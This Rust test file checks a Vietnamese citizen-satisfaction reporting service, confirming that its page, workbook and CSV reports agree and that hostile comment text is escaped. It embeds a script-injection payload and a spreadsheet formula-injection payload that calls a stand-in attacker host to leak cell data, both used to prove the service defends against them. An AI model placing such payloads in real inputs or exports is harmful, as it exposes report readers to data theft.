//! Reports over HTTP: a commune's quarter as a printable page, a workbook read back with calamine, and a CSV
//! with a byte-order mark — the same figures in all three; a bad period is refused for a download and named on
//! the page; comments are shown as text, never as markup.

use axum::http::{header, StatusCode};
use calamine::{Data, Reader, Xlsx};

use crate::db::{count_all, TestDb};
use crate::fixture::world;
use crate::http_live::rate;
use crate::on_both_backends;
use hailong::domain::access::Role;
use hailong::domain::report::ReportPeriod;

fn this_quarter() -> String {
    let today = hailong::domain::rollup::local_day(chrono::Utc::now().timestamp_millis());
    ReportPeriod::Quarter { year: 2000, quarter: 1 }.current(today).key()
}

async fn a_quarter_is_reported_alike_on_the_page_in_the_workbook_and_in_the_csv(db: TestDb) {
    let world = world(db).await;
    let password = world.account("lanhdao.a", Role::Leader, Some(world.commune.id), None).await;
    let leader = world.login_as("lanhdao.a", &password).await;
    // The official: 4, 4, 3, 2, 1, 4 (four of six satisfied). (A sixth rating through the counter's code instead
    // would withhold the official: the commune's six less the official's five would give that one rating away.)
    for overall in ["4", "4", "3", "2", "4"] {
        rate(&world, &world.official_code, overall, "").await;
    }
    rate(&world, &world.official_code, "1", "<script>alert(1)</script> chờ lâu").await;
    count_all(world.store()).await;
    let query = format!("unit={}&period={}", world.commune.id, this_quarter());

    let page = world.get(&format!("/reports?{query}"), Some(&leader)).await;
    assert_eq!(page.status, StatusCode::OK);
    for text in ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "BÁO CÁO", "quý", "66,7"]
    {
        assert!(page.text.contains(text), "{text} on the page");
    }
    assert!(page.text.contains("&lt;script&gt;alert(1)&lt;/script&gt; chờ lâu"), "the comment as text");
    assert!(!page.text.contains("<script>alert(1)"), "never as markup");
    assert!(page.text.contains(&world.official.full_name), "six ratings: the official is above the floor");

    let workbook = world.get(&format!("/reports/xlsx?{query}"), Some(&leader)).await;
    assert_eq!(workbook.status, StatusCode::OK);
    assert!(workbook.headers[header::CONTENT_DISPOSITION].to_str().unwrap().contains(".xlsx"));
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(workbook.bytes)).unwrap();
    let names = book.sheet_names();
    for sheet in ["Thông tin chung", "Chỉ số", "Mức đánh giá", "Cỡ mẫu", "Công chức", "Kênh", "Ý kiến"]
    {
        assert!(names.iter().any(|n| n == sheet), "sheet {sheet} in {names:?}");
    }
    let levels = book.worksheet_range("Mức đánh giá").unwrap();
    // Row 3 is the header; Rất tốt, Tốt, Bình thường, Chưa tốt follow.
    let counts: Vec<f64> = (4..8).map(|row| number(levels.get_value((row, 1)))).collect();
    assert_eq!(counts, [3.0, 1.0, 1.0, 1.0]);
    let indexes = book.worksheet_range("Chỉ số").unwrap();
    assert_eq!(indexes.get_value((4, 0)), Some(&Data::String("Chỉ số hài lòng chung".into())));
    assert!((number(indexes.get_value((4, 1))) - 400.0 / 6.0).abs() < 1e-9, "the exact figure, formatted by Excel");
    assert_eq!(number(indexes.get_value((4, 3))), 6.0);
    let officials = book.worksheet_range("Công chức").unwrap();
    assert_eq!(officials.get_value((4, 0)), Some(&Data::String(world.official.full_name.clone())));
    assert!((number(officials.get_value((4, 2))) - 400.0 / 6.0).abs() < 1e-9);
    let comments = book.worksheet_range("Ý kiến").unwrap();
    let texts: Vec<String> = comments.rows().flatten().map(|cell| cell.to_string()).collect();
    assert!(texts.iter().any(|t| t == "<script>alert(1)</script> chờ lâu"), "{texts:?}");

    let csv = world.get(&format!("/reports/csv?{query}"), Some(&leader)).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.headers[header::CONTENT_TYPE].to_str().unwrap().starts_with("text/csv"));
    assert!(csv.bytes.starts_with(b"\xEF\xBB\xBF"), "a byte-order mark, for Excel");
    for line in ["Mức đánh giá\n", "Rất tốt,3,50.0\n", "Chưa tốt,1,16.7\n", "Chỉ số hài lòng chung,66.7,"]
    {
        assert!(csv.text.contains(line), "{line:?} in the CSV");
    }
}
on_both_backends!(a_quarter_is_reported_alike_on_the_page_in_the_workbook_and_in_the_csv);

async fn a_period_that_is_none_is_refused_for_a_download_and_named_on_the_page(db: TestDb) {
    let world = world(db).await;
    let password = world.account("lanhdao.a", Role::Leader, Some(world.commune.id), None).await;
    let leader = world.login_as("lanhdao.a", &password).await;
    let unit = world.commune.id;
    for bad in ["2026-Q5", "qu%C3%BD%204", "2026-13", ""] {
        let download = world.get(&format!("/reports/xlsx?unit={unit}&period={bad}"), Some(&leader)).await;
        assert_eq!(download.status, StatusCode::BAD_REQUEST, "{bad}");
    }
    let page = world.get(&format!("/reports?unit={unit}&period=2026-Q5"), Some(&leader)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("Kỳ báo cáo chưa hợp lệ"), "the page says so");
    let plain = world.get("/reports", Some(&leader)).await;
    assert!(plain.text.contains(&world.commune.name), "no unit asked: the reader's own");
    let foreign = world.get(&format!("/reports/csv?unit={}&period=2026", world.other_commune.id), Some(&leader)).await;
    assert_eq!(foreign.status, StatusCode::NOT_FOUND);
}
on_both_backends!(a_period_that_is_none_is_refused_for_a_download_and_named_on_the_page);

fn number(cell: Option<&Data>) -> f64 {
    match cell {
        Some(Data::Float(value)) => *value,
        Some(Data::Int(value)) => *value as f64,
        other => panic!("not a number: {other:?}"),
    }
}

/// The dashboard reminds leaders of the yearly calendar (docs/design.md) in the coming weeks, each deadline leading to
/// its report.
async fn the_dashboard_reminds_of_the_calendar_and_leads_to_the_report(db: TestDb) {
    let world = world(db).await;
    let admin = world.login().await;
    let unit = world.commune.id;
    let page = world.get(&format!("/dashboard?unit={unit}"), Some(&admin)).await;
    let today = hailong::domain::period::local_date(chrono::Utc::now());
    let due = hailong::domain::calendar::upcoming(today, 45);
    // Between early January and mid-February nothing falls due within 45 days: then there is no panel.
    assert_eq!(page.text.contains("Sắp đến hạn công bố, báo cáo"), !due.is_empty());
    for (deadline, _) in due {
        assert!(page.text.contains(&deadline.due.format("%d/%m/%Y").to_string()), "{deadline:?}");
        let href = format!("/reports?unit={unit}&amp;period={}", deadline.period.key());
        assert!(page.text.contains(&href), "{href}");
        let report = world.get(&href.replace("&amp;", "&"), Some(&admin)).await;
        assert!(report.text.contains(&deadline.period.title_vi()), "the report of {}", deadline.period.key());
    }
}
on_both_backends!(the_dashboard_reminds_of_the_calendar_and_leads_to_the_report);

async fn a_comment_that_is_a_formula_is_never_run_by_a_spreadsheet(db: TestDb) {
    let world = world(db).await;
    let password = world.account("lanhdao.a", Role::Leader, Some(world.commune.id), None).await;
    let leader = world.login_as("lanhdao.a", &password).await;
    let formula = r#"=HYPERLINK("http://ke-gian.example/?"&A1,"xem")"#;
    rate(&world, &world.official_code, "1", formula).await;
    rate(&world, &world.official_code, "2", "-1+1 @ketqua").await;
    count_all(world.store()).await;
    let query = format!("unit={}&period={}", world.commune.id, this_quarter());

    let csv = world.get(&format!("/reports/csv?{query}"), Some(&leader)).await;
    let mut reader = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(&csv.bytes[3..]);
    let fields: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(fields.iter().any(|f| f == &format!("'{formula}")), "the comment is kept, as text");
    assert!(fields.iter().any(|f| f == "'-1+1 @ketqua"));
    let runnable: Vec<_> = fields.iter().filter(|f| f.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
    assert!(runnable.is_empty(), "no cell a spreadsheet would run: {runnable:?}");

    // The workbook writes every text as a text cell: the formula comes back as the very string, with no formula.
    let workbook = world.get(&format!("/reports/xlsx?{query}"), Some(&leader)).await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(workbook.bytes)).unwrap();
    let comments = book.worksheet_range("Ý kiến").unwrap();
    assert!(comments.rows().flatten().any(|cell| cell == &Data::String(formula.into())), "kept as text");
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().next().is_none(), "sheet {name} holds a formula");
    }
}
on_both_backends!(a_comment_that_is_a_formula_is_never_run_by_a_spreadsheet);
